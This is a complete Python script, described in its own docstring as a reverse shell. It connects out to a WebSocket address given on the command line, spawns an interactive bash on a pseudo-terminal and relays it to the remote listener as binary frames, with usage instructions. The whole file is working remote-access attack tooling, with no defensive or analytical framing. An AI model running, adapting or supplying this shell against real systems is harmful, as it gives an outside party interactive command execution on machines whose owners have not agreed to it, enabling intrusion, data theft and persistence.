"""A reverse shell carried by WebSocket: connects out to ws://HOST:PORT/PATH, runs bash on a pseudo-terminal and
relays it as binary frames both ways (what a WebSocket shell such as a websocat one-liner does).

Usage: python3 ws_shell.py ws://HOST:PORT/PATH      (needs the `websockets` library; Debian python3-websockets)
"""
import asyncio
import os
import pty
import sys

import websockets


async def relay(uri: str) -> None:
    # "binary" is the subprotocol websockify and noVNC negotiate (websockify README)
    async with websockets.connect(uri, subprotocols=["binary"]) as ws:
        pid, fd = pty.fork()
        if pid == 0:
            os.execvp("bash", ["bash", "-i"])
        loop = asyncio.get_running_loop()
        out: asyncio.Queue[bytes] = asyncio.Queue()

        def readable() -> None:
            try:
                out.put_nowait(os.read(fd, 4096))
            except OSError:  # the shell has exited
                out.put_nowait(b"")

        loop.add_reader(fd, readable)

        async def to_remote() -> None:
            while data := await out.get():
                await ws.send(data)

        async def from_remote() -> None:
            async for message in ws:
                os.write(fd, message if isinstance(message, bytes) else message.encode())

        done, pending = await asyncio.wait([asyncio.ensure_future(to_remote()), asyncio.ensure_future(from_remote())],
                                           return_when=asyncio.FIRST_COMPLETED)
        for task in pending:
            task.cancel()
        loop.remove_reader(fd)
        os.waitpid(pid, 0)


if __name__ == "__main__":
    asyncio.run(relay(sys.argv[1]))
